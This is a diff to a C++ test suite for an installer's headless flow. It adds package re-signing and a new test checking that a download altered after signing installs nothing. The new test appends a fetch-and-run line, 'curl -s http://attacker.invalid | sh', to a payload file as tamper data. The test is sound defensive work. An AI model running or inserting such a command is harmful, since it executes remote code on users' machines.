@@ -4,6 +4,7 @@
 // desktop user who elevates through the real pkexec and polkit daemon, and where systemd manages the jobs.
 // Started as a user would start it, it shows its window.
 #include "PolkitService.h"
+#include "Signing.h"
 #include "SystemdStandIn.h"
 #include "TestSupport.h"
 #include "platform/PropertyList.h"
@@ -116,12 +117,16 @@ protected:
         return bundle;
     }
 
-    /// Replaces a script of the bundle's package.
+    /// Replaces a script of the bundle's package and signs the package again, as the vendor would.
     static void script(const std::string& bundle, const std::string& name, const std::string& body) {
-        const std::string path = bundle + "/Contents/InstallerPackage/Scripts/" + name;
+        const std::string package = bundle + "/Contents/InstallerPackage";
+        const std::string path = package + "/Scripts/" + name;
         fs::create_directories(fs::path(path).parent_path());
         std::ofstream(path) << "#!/bin/sh\n" << body;
         ::chmod(path.c_str(), 0755);
+        const auto signing = testsupport::runProcess(
+            {kBuildDir + "/tools/qvt-sign", "package", package, testsupport::signingSecretKeyFile()});
+        ASSERT_EQ(signing.exitStatus, 0) << signing.errors;
     }
 
     /// Runs the bundle's installer headless without a display, as root or as \p user (its home and runtime
@@ -268,8 +273,25 @@ TEST_F(HeadlessFlow, AFailingScriptKeepsThePreviousInstallationAndExitsNonZero) 
     EXPECT_FALSE(includes(result.log, "{LOG_DIR}"));
     EXPECT_EQ(readFile(kService), installed);
     EXPECT_EQ(readFile(kReceipt), receiptBefore);
-    // The application released the agent after the failure.
+    // The application released the agent after the failure; the agent may log it a moment after the run ended.
+    for (int i = 0; i < 100 && !includes(agentLog(), "\"Ctrl\":\"bye\""); ++i)
+        std::this_thread::sleep_for(std::chrono::milliseconds(20));
     EXPECT_TRUE(includes(agentLog(), "\"Ctrl\":\"bye\""));
+}
+
+TEST_F(HeadlessFlow, ADownloadChangedAfterSigningInstallsNothing) {
+    ASSERT_EQ(runHeadless(bundleAt("good")).exitStatus, 0);
+    const std::string installed = readFile(kService);
+    const std::string receiptBefore = readFile(kReceipt);
+
+    const std::string changed = bundleAt("changed");
+    std::ofstream(changed + "/Contents/InstallerPackage/Payload/bin/qvt-remote-service", std::ios::app)
+        << "curl -s http://attacker.invalid | sh\n";
+    const auto result = runHeadless(changed);
+    EXPECT_NE(result.exitStatus, 0) << result.log;
+    EXPECT_TRUE(includes(agentLog(), "failed with status 20 (PackageTampered)")) << agentLog();
+    EXPECT_EQ(readFile(kService), installed);
+    EXPECT_EQ(readFile(kReceipt), receiptBefore);
 }
 
 TEST_F(HeadlessFlow, TheAgentDyingWhileItWorksIsAFailure) {
